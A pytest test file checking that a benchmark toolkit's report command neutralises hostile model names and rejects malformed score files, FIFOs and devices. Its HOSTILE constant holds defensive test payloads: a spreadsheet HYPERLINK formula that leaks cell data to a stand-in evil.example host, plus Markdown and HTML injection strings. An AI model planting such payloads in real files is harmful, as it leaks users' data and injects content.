"""`vlm4d report` against hostile input (issue 23, items 6, 7, 8, 9 and 17).

Names that a response file or an lmms-eval run controls (the model name) reach the CSV, the
Markdown, the HTML page and the figures: each must stay data there (no spreadsheet formula, no
Markdown link/image/heading, no broken table, no matplotlib mathtext). Every field of a score
document the report reads is checked (wrong type, negative, NaN, empty container: exit 2 and
one line naming the file, the run and the field, never a traceback); a FIFO as a score file
fails at once. The documents are made by the project's own code (`pipeline.score_document`)
from hand-made questions.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from vlm4d_tasks.data.schema import Record
from vlm4d_tasks.metric.scoring import Verdict, join
from vlm4d_tasks.pipeline.score import run_entry, score_document, score_json

RESAMPLES = 50
# Markdown and mathtext specials, a table pipe, newlines, HTML, and a spreadsheet formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/x"&A1,"click") $\\frac{a}{b}$ $\\nosuchcommand{x}$ '
    "$x^^2$ `tick` "
    "[link](http://evil.example/a) ![img](http://evil.example/i.png) <b>bold</b> "
    "| pipe | *star* _under_ #hash !bang\n# Heading injected\r\n- item\n> quote"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

OPTIONS = ["left", "right", "not moving", "no car there"]


def _records(subset: str, count: int) -> list[Record]:
    out = []
    for i in range(1, count + 1):
        out.append(Record(
            uid=f"{subset}/q{i}", question_id=f"q{i}", subset=subset,
            source="davis" if subset == "real" else "synthetic",
            perspective=("egocentric" if i % 2 else "exocentric") if subset == "real" else None,
            category="translational" if i % 4 else "false_positive",
            question="Which way does the car move?", options=list(OPTIONS),
            answer="D" if i % 4 == 0 else "A",
            answer_text=OPTIONS[3] if i % 4 == 0 else OPTIONS[0],
            video=f"videos/{subset}_{i % 3}.mp4",
        ))  # fmt: skip
    return out


def score_doc(names: tuple[str, ...] = (HOSTILE, "plain-model"), count: int = 6) -> dict:
    """Each name answers `count` real and `count` synthetic questions in two prompt settings
    (so that the figures comparing chain of thought and direct output are drawn too)."""
    runs, models = [], {}
    for skill, name in enumerate(names):
        for variant in ("cot", "direct-output"):
            model = f"{name} ({variant})"
            for subset in ("real", "synthetic"):
                records = _records(subset, count)
                letters = [r.answer if (i + skill) % 3 else "B" for i, r in enumerate(records)]
                verdicts = [Verdict.chosen(r.uid, x, "given") for r, x in zip(records, letters)]
                items = join(verdicts, records)
                runs.append(run_entry(
                    items, name=name, model=model, variant=variant, subset=subset,
                    file=f"{subset}_mc_{variant}/{name}.json", grading={"mode": "rule"},
                    resamples=RESAMPLES, seed=0,
                ))  # fmt: skip
                models.setdefault(model, []).extend(items)
    return score_document(runs, models, judge={"mode": "rule", "models": []},
                          resamples=RESAMPLES, seed=0)  # fmt: skip


def vlm4d(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "vlm4d_tasks.cli", *args], capture_output=True, text=True,
        timeout=timeout, env={**os.environ, "PYTHONHASHSEED": "0"},
    )  # fmt: skip


def assert_clean_failure(result: subprocess.CompletedProcess, *needles: str) -> str:
    """Exit 2, no traceback, and a last stderr line that names every needle."""
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    last = result.stderr.strip().splitlines()[-1]
    for needle in needles:
        assert needle in last, (needle, last)
    return last


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`vlm4d report --out` of a document whose first model has the hostile name."""
    root = tmp_path_factory.mktemp("hostile")
    path = root / "scores.json"
    path.write_text(score_json(score_doc()), encoding="utf-8")
    result = vlm4d("report", str(path), "--out", str(root / "out"), "--no-progress")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    return root / "out"


# --------------------------------------------------------------------------------------------
# 6. CSV formula injection


@pytest.mark.subprocess
def test_no_csv_text_cell_starts_a_formula_and_numbers_stay_numbers(hostile_report: Path):
    rows = list(csv.reader(io.StringIO((hostile_report / "leaderboard.csv").read_text("utf-8"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # the name, neutralised
    for cell in cells:  # a cell may start with "-" only as a number
        if cell.startswith(FORMULA_STARTS):
            assert float(cell) < 0, cell
    # numbers are not text: a negative chance-corrected accuracy stays a plain number
    column = header.index("overall_chance_corrected")
    assert any(row[column].startswith("-") and float(row[column]) < 0 for row in body)


def test_csv_keeps_negative_numbers_as_numbers():
    from vlm4d_tasks.report.leaderboard_render import csv_cell

    assert csv_cell(-3.2) == -3.2 and csv_cell(0) == 0
    assert csv_cell("-3.2") == "'-3.2"  # a text cell is text, whatever it looks like
    assert csv_cell("=1+1") == "'=1+1"
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}x") == f"'{start}x"
    assert csv_cell("plain") == "plain"
    assert csv_cell("") == ""


# --------------------------------------------------------------------------------------------
# 7. Names that break renderers: Markdown, HTML, figures


def _flat(name: str) -> str:
    """The name as the report shows it: on one line."""
    return " ".join(name.replace("\r", " ").replace("\n", " ").split(" "))


def _table_lines(markdown: str) -> list[list[str]]:
    """The report's tables as blocks of source lines (a table: consecutive lines from "|")."""
    tables, block = [], []
    for line in markdown.splitlines():
        if line.startswith("|"):
            block.append(line)
        elif block:
            tables.append(block)
            block = []
    return tables + ([block] if block else [])


def _cells(line: str) -> int:
    """How many cells GFM (and markdown-it) splits a row into: a `|` preceded by a backslash
    does not split."""
    pipes = sum(1 for i, ch in enumerate(line) if ch == "|" and (i == 0 or line[i - 1] != "\\"))
    return pipes - 1


def assert_markdown_holds(markdown: str, allowed_images: set[str]) -> None:
    """No link, image, heading or HTML comes from a name; every table row has as many cells
    as its header, and markdown-it sees exactly the rows of the source; the name is shown."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = md.parse(markdown)
    inline = [child for token in tokens for child in token.children or []]
    for child in inline:
        if child.type == "link_open":
            assert str(child.attrGet("href")).startswith("#"), child.attrGet("href")
        if child.type == "image":
            assert child.attrGet("src") in allowed_images, child.attrGet("src")
    kinds = {t.type for t in tokens} | {c.type for c in inline}
    assert not kinds & {"html_inline", "html_block", "blockquote_open", "hr", "s_open"}, kinds
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not any("Heading injected" in h or "evil" in h for h in headings), headings
    tables = _table_lines(markdown)
    assert tables
    for block in tables:
        widths = {_cells(line) for line in block}
        assert len(widths) == 1, block
    rows = sum(1 for t in tokens if t.type == "tr_open")
    assert rows == sum(len(block) - 1 for block in tables)  # no row split, none swallowed
    # Every place the name is written shows it whole, in one code span or text (no markup cut
    # it): as many as the source mentions it (its words "Heading injected" need no escape).
    shown = [c.content for c in inline if c.type in ("code_inline", "text")]
    whole = sum(text.count(_flat(HOSTILE)) for text in shown)
    assert whole == markdown.count("Heading injected") > 0


@pytest.mark.subprocess
def test_report_md_keeps_a_hostile_name_as_text(hostile_report: Path):
    markdown = (hostile_report / "report.md").read_text("utf-8")
    pngs = {p.name for p in hostile_report.glob("*.png")}
    assert {"accuracy_by_category.png", "cot_vs_direct.png"} <= pngs
    assert_markdown_holds(markdown, pngs)


@pytest.mark.subprocess
def test_report_html_keeps_a_hostile_name_as_text(hostile_report: Path):
    from html.parser import HTMLParser

    class Page(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.tags: list[tuple[str, dict]] = []
            self.stack: list[str] = []
            self.headings: list[str] = []
            self.rows: list[list[int]] = []  # per table: the cells of each row
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list) -> None:
            self.tags.append((tag, dict(attrs)))
            self.stack.append(tag)
            if tag == "table":
                self.rows.append([])
            elif tag == "tr":
                self.rows[-1].append(0)
            elif tag in ("td", "th"):
                self.rows[-1][-1] += 1
            elif tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
                self.headings.append("")

        def handle_endtag(self, tag: str) -> None:
            if tag in self.stack:
                while self.stack.pop() != tag:
                    pass

        def handle_data(self, data: str) -> None:
            self.text.append(data)
            if any(t in ("h1", "h2", "h3", "h4", "h5", "h6") for t in self.stack):
                self.headings[-1] += data

    page = Page()
    page.feed((hostile_report / "report.html").read_text("utf-8"))
    for tag, attrs in page.tags:
        assert tag not in ("b", "script", "iframe", "blockquote", "del", "s"), tag
        if tag == "a":
            assert attrs.get("href", "").startswith("#"), attrs
        if tag == "img":
            assert attrs.get("src", "").startswith("data:image/png;base64,"), attrs["src"][:80]
    assert not any("Heading injected" in h for h in page.headings), page.headings
    for table in page.rows:
        assert len(set(table)) == 1, table
    # the name whole (no markup took a piece of it) wherever report.md writes it
    mentions = (hostile_report / "report.md").read_text("utf-8").count("Heading injected")
    assert "".join(page.text).count(_flat(HOSTILE)) == mentions > 0


@pytest.mark.subprocess
def test_single_score_markdown_and_plot_keep_a_hostile_name(tmp_path: Path):
    """`vlm4d report SCORE --markdown --plot`: the table of one score and its PNG (the same
    Markdown `vlm4d score` prints)."""
    from PIL import Image

    path = tmp_path / "scores.json"
    path.write_text(score_json(score_doc()), encoding="utf-8")
    result = vlm4d("report", str(path), "--markdown", str(tmp_path / "t.md"), "--plot",
                   str(tmp_path / "t.png"), "--no-progress")  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    assert_markdown_holds((tmp_path / "t.md").read_text("utf-8"), set())
    with Image.open(tmp_path / "t.png") as image:
        image.verify()


def test_figures_draw_dollar_signs_as_text(tmp_path: Path):
    """Mathtext is off in every figure: a name that is not valid mathtext is drawn, and a
    name that is (`$x^2$`) is drawn as its characters, not as math; a line break in a name
    is a space there (no glyph for a carriage return)."""
    import warnings

    from vlm4d_tasks.report.figures import write_figures

    document = score_doc(names=("$\\nosuchcommand{x}$ $a_b$\r\nsecond line", "plain"))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        images = write_figures([document], tmp_path, progress=False)
    assert len(list(images)) >= 3 and all(Path(p).stat().st_size > 1000 for p in images)
    assert not [w for w in caught if "Glyph" in str(w.message)], [str(w.message) for w in caught]


# --------------------------------------------------------------------------------------------
# 8. Every field the report reads is checked: wrong type, negative, NaN, empty container


def full_document() -> dict:
    """A score document with every optional part the report reads: an LLM judge (hybrid)
    with its statistics, an unresolved answer, reference labels (agreement), a stale entry,
    the paired comparisons, the validity block and an lmms-eval run's metadata."""
    from vlm4d_tasks.metric.grading import Grading, Mode
    from vlm4d_tasks.metric.judge import judge_stats
    from vlm4d_tasks.metric.responses import StaleKind, stale_summary

    runs, models = [], {}
    for skill, name in enumerate(("alpha", "beta")):
        for variant in ("cot", "direct-output"):
            model = f"{name} ({variant})"
            for subset in ("real", "synthetic"):
                records = _records(subset, 6)
                # the last unresolved: the first outcome carries a chosen option's text
                verdicts = [Verdict.chosen(r.uid, r.answer if (i + skill) % 3 else "B", "rule")
                            for i, r in enumerate(records[:-1])]  # fmt: skip
                verdicts.append(Verdict.unresolved(records[-1].uid, "judge:j", "HTTP 503",
                                                   cause="HTTP 503"))  # fmt: skip
                items = join(verdicts, records, {r.uid: i % 2 == 0 for i, r in
                                                 enumerate(records)})  # fmt: skip
                grading = Grading(Mode.HYBRID, verdicts, sent_to_llm=2,
                                  judges=[judge_stats("judge-x", []).to_dict()])  # fmt: skip
                run = run_entry(items, name=name, model=model, variant=variant, subset=subset,
                                file=f"{subset}_mc_{variant}/{name}.json",
                                grading=grading.to_dict(), resamples=RESAMPLES, seed=0)  # fmt: skip
                run["stale"] = stale_summary({records[1].uid: (StaleKind.OPTIONS_REORDERED,)},
                                             False)  # fmt: skip
                runs.append(run)
                models.setdefault(model, []).extend(items)
    lmms_run = {
        "model": "vlm4d_random", "model_args": "seed=0", "limit": 6, "seed": 0,
        "protocol": {"rows": {"cot": "greedy"}, "decoding": {"greedy": {"temperature": 0}},
                     "seed": {"lmms_eval": 0}, "model_frame_args": {"frames": 8}},
        "dataset": {"folder": "no-such-dataset-folder",
                    "annotations": {"files": [{"name": "real_mc.json", "sha256": "0" * 64}]}},
    }  # fmt: skip
    document = score_document(
        runs, models, judge={"mode": "hybrid", "models": ["judge-x"], "prompt": "vlm4d"},
        resamples=RESAMPLES, seed=0, run=lmms_run,
    )  # fmt: skip
    return json.loads(score_json(document))


# Fields the report does not read: any value but NaN may stand there (NaN is refused anywhere,
# since no output may inherit it).
NOT_READ = re.compile(
    r"^(format_version|annotations|summary\.(runs|n|no_valid_answer|unresolved"
    r"|unresolved_causes|ground_truth_unmatched|stale|judges\.[^.]+\.(answers|unresolved_causes"
    r"|tokens\.(prompt|completion|cached_total))))"
    r"|^run\.(seed|protocol\.(decoding\.[^.]+\.|seed\.|model_frame_args\.))"
    r"|\.unresolved_answers\[\d+\]\.decided_by|\.grading\.judges\[\d+\]\.(endpoint|answers"
    r"|judged|unresolved_ids|unresolved_causes|tokens\.(prompt|completion|cached_total))"
    r"|^comparisons\[\d+\]\.(videos|a_only|b_only|test|interval)"
)
# One field of each kind: list items after the first and the keys of maps (columns, groups,
# models) repeat a shape already tried.
MAPS = re.compile(r"(\.columns|\.by_category|\.by_perspective|^validity\.models|\.subsets"
                  r"|\.by_kind|^summary\.judges)\.[^.\[]+")  # fmt: skip


def _fields(value: Any, where: str = "") -> list[tuple[str, tuple]]:
    """(printed path, key path) of every field, depth first."""
    out = []
    items = (value.items() if isinstance(value, dict)
             else enumerate(value) if isinstance(value, list) else ())  # fmt: skip
    for key, item in items:
        path = f"{where}[{key}]" if isinstance(key, int) else (f"{where}.{key}" if where else key)
        out.append((path, (key,)))
        out += [(p, (key, *keys)) for p, keys in _fields(item, path)]
    return out


def _mutations(value: Any) -> list[tuple[str, Any]]:
    """Wrong type, negative, NaN and the empty containers, each that differs in kind."""
    out = [("NaN", float("nan"))]
    if not isinstance(value, str):
        out.append(("text", "x"))
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        out.append(("negative", -5))
    elif not isinstance(value, str) or value:
        out.append(("number", 7))
    if not isinstance(value, dict):
        out.append(("empty object", {}))
    if not isinstance(value, list):
        out.append(("empty list", []))
    return out


@pytest.mark.slow
def test_every_field_the_report_reads_is_checked(tmp_path: Path, capsys: pytest.CaptureFixture):
    from vlm4d_tasks.cli import main

    document = full_document()
    assert main(["report", _write(tmp_path / "ok.json", document), "--out",
                 str(tmp_path / "ok"), "--no-progress", "--resamples", "20"]) == 0  # fmt: skip
    capsys.readouterr()
    seen, tried, failures, unread_fields = set(), 0, [], []
    for path, keys in _fields(document):
        shape = MAPS.sub(r"\1.*", re.sub(r"\[\d+\]", "[0]", path))
        if shape in seen or re.search(r"\[[1-9]\d*\]", path):
            continue
        seen.add(shape)
        parent = document
        for key in keys[:-1]:
            parent = parent[key]
        original = parent[keys[-1]]
        unread = NOT_READ.search(path) is not None
        if unread:
            unread_fields.append((parent, keys[-1]))
        for kind, bad in _mutations(original):
            if unread and kind != "NaN":
                continue
            parent[keys[-1]] = bad
            score = _write(tmp_path / "bad.json", document)
            code = main(["report", score, "--out", str(tmp_path / "out"), "--no-progress",
                         "--resamples", "20"])  # fmt: skip
            err = capsys.readouterr().err
            parent[keys[-1]] = original
            tried += 1
            lines = err.strip().splitlines()
            # the field, or for an item of a pair ([low, high]) the pair
            named = path if path in err else re.sub(r"\[\d+\]$", "", path)
            ok = (code == 2 and len(lines) == 1 and str(score) in lines[0]
                      and (f": {named}" in lines[0] or f" {named}:" in lines[0])
                      and "fix:" in lines[0])  # fmt: skip
            if not ok:
                failures.append(f"{path} = {kind}: exit {code}: {err.strip()[-300:]}")
    assert not failures, "\n".join(failures)
    # The fields said not to be read, all of them wrong at once: the report is still made.
    for parent, key in unread_fields:
        parent[key] = {}
    out = tmp_path / "unread"
    assert main(["report", _write(tmp_path / "unread.json", document), "--out", str(out),
                 "--no-progress", "--resamples", "20"]) == 0  # fmt: skip
    assert (out / "leaderboard.json").is_file()
    assert tried > 400 and len(seen) > 150  # the walk reached the document's every part


def _write(path: Path, document: dict) -> str:
    # NaN written as Python's json writes it (what a hand edit or another tool may leave)
    path.write_text(json.dumps(document, allow_nan=True), encoding="utf-8")
    return str(path)


@pytest.mark.subprocess
@pytest.mark.parametrize(("field", "value", "named"), [
    (("models", 0, "columns", "overall", "chance_corrected"), {}, "chance_corrected"),
    (("runs", 0, "unresolved"), [], "runs[0].unresolved"),
    (("bootstrap", "resamples"), -5, "bootstrap.resamples"),
    (("runs", 0, "accuracy"), float("nan"), "runs[0].accuracy"),
    (("runs", 0, "accuracy"), float("inf"), "runs[0].accuracy"),
])  # fmt: skip
def test_the_reported_cases_exit_2_naming_file_run_and_field(tmp_path, field, value, named):
    """The cases of the issue, in a subprocess: exit 2 and one line with the file, the run
    (for a run's field) and the field."""
    document = full_document()
    parent = document
    for key in field[:-1]:
        parent = parent[key]
    parent[field[-1]] = value
    score = _write(tmp_path / "s.json", document)
    result = vlm4d("report", score, "--out", str(tmp_path / "out"), "--no-progress")
    last = assert_clean_failure(result, score, named, "fix:")
    if field[0] == "runs":
        assert "run 'alpha (cot)' 'real'" in last
    assert not (tmp_path / "out" / "leaderboard.json").exists()


# --------------------------------------------------------------------------------------------
# 9. Special files: a FIFO or a device as a score file fails at once


@pytest.mark.subprocess
@pytest.mark.parametrize("where", ["score file", "run folder", "probe labels"])
def test_a_fifo_fails_at_once(tmp_path: Path, where: str):
    """Nobody ever writes to the FIFO: reading it would block for good (the subprocess's
    timeout would then fail the test); refused, it ends at once with exit 2 naming it."""
    score = tmp_path / "scores.json"
    score.write_text(score_json(score_doc(names=("m",))), encoding="utf-8")
    extra: list[str] = []
    if where == "score file":
        fifo = tmp_path / "fifo.json"
        runs = [str(fifo)]
    elif where == "run folder":  # an lmms-eval output folder: its *_vlm4d_score.json are read
        fifo = tmp_path / "results" / "run1_vlm4d_score.json"
        fifo.parent.mkdir()
        runs = [str(fifo.parent)]
    else:
        probe = tmp_path / "probe"
        probe.mkdir()
        (probe / "probe_records.jsonl").write_text("", encoding="utf-8")
        fifo = probe / "probe_labels.json"
        runs, extra = [str(score)], ["--probe", str(probe)]
    os.mkfifo(fifo)
    result = vlm4d("report", *runs, *extra, "--out", str(tmp_path / "out"), "--no-progress",
                   timeout=60)  # fmt: skip
    assert_clean_failure(result, str(fifo), "FIFO")


@pytest.mark.subprocess
def test_dev_zero_as_a_score_file_fails_at_once(tmp_path: Path):
    result = vlm4d("report", "/dev/zero", "--out", str(tmp_path / "out"), timeout=60)
    assert_clean_failure(result, "/dev/zero", "device")


# --------------------------------------------------------------------------------------------
# 17. The newcomer's view: help, what was written, no percentage of a handful


def test_a_share_of_few_questions_is_given_as_counts():
    from vlm4d_tasks.metric.stats import MIN_N_FOR_PERCENT, count_share
    from vlm4d_tasks.report.figures import confusion_summary, direction_confusion

    assert count_share(1, 1) == f"1 of 1 (n < {MIN_N_FOR_PERCENT}: no percentage)"
    assert count_share(12, 40) == "12 of 40 (30.0%)"
    few = direction_confusion([("left", "right")])
    assert confusion_summary(few).startswith(
        "true left answered right 1 of 1 (n < 30: no percentage);"
    )
    many = direction_confusion([("left", "right")] * 11 + [("left", "left")] * 29)
    assert confusion_summary(many).startswith("true left answered right 11 of 40 (27.5%);")


def test_diagnose_probe_gives_a_handful_of_traps_as_counts():
    """`vlm4d diagnose-probe` prints this Markdown: one moving-camera trap is "1 of 1", not
    "100.0%"."""
    from vlm4d_tasks.probe.diagnose import ProbeDiagnosis, Rate, to_markdown

    one = Rate(1, 1)
    diagnosis = ProbeDiagnosis(one, {}, {"pan": one}, {"both": 0, "static_only": 1,
                               "moving_only": 0, "neither": 0}, 1, 1, 0)  # fmt: skip
    text = to_markdown(diagnosis)
    assert "suggests on 1 of 1 (n < 30: no percentage) moving-camera questions" in text
    assert "100.0%" not in text


@pytest.mark.subprocess
def test_help_says_what_report_writes():
    result = vlm4d("--help")
    assert result.returncode == 0
    line = " ".join(result.stdout.split())
    for output in ("report.md", "leaderboard.csv", ".json", "report.html", "figures", "PNG"):
        assert output in line.split("report the report", 1)[1].split(" eval ")[0], output


@pytest.mark.subprocess
def test_report_markdown_and_plot_say_where_they_wrote(tmp_path: Path):
    score = tmp_path / "scores.json"
    score.write_text(score_json(score_doc(names=("m",))), encoding="utf-8")
    table, plot = tmp_path / "out" / "t.md", tmp_path / "out" / "t.png"
    result = vlm4d("report", str(score), "--markdown", str(table), "--plot", str(plot))
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr.strip().splitlines() == [
        f"vlm4d report: wrote {table}",
        f"vlm4d report: wrote {plot}",
    ]
    assert table.is_file() and plot.is_file()
